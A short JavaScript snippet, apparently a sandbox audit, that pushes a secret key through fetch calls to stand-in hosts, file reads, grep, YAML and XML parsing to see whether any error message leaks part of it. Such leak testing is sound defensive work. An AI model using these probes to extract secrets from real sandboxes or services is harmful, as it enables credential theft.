// Every length at which something could be cut, and what is left of the key then.
const longest = (text) => {
  for (let size = token.length; size > 3; size -= 1) {
    for (let at = 0; at + size <= token.length; at += 1) {
      if (text.includes(token.slice(at, at + size))) return size;
    }
  }
  return 0;
};
const tries = {
  "fetch, no URL": (text) => fetch("http://exa mple/" + text),
  "fetch, another scheme": (text) => fetch("ftp://a.example.com/" + text),
  "fetch, a header": (text) => fetch("http://a.example.com/", { headers: { [text + " "]: "1" } }),
  "files, a path": async (text) => safety.fs.readText(text),
  "files, a pattern": async (text) => safety.fs.grep("a.txt", text + "("),
  "yaml": async (text) => safety.parser.yaml("!!int " + text),
  "xml": async (text) => safety.parser.xml("<a>&" + text + ";</a>"),
};
// A piece of the key in any message is what is shown; otherwise how it was refused.
const left = {};
for (const name of Object.keys(tries)) {
  for (const size of [0, 70, 100, 230, 560, 4000]) {
    const attempt = () => tries[name]("x".repeat(size) + token);
    const error = await attempt().catch((caught) => caught);
    const leaked = longest(String(error?.message));
    left[name] = leaked > 0 ? `${leaked} characters of the key` : await refusal(attempt);
    if (leaked > 0) return left;
  }
}
return left;
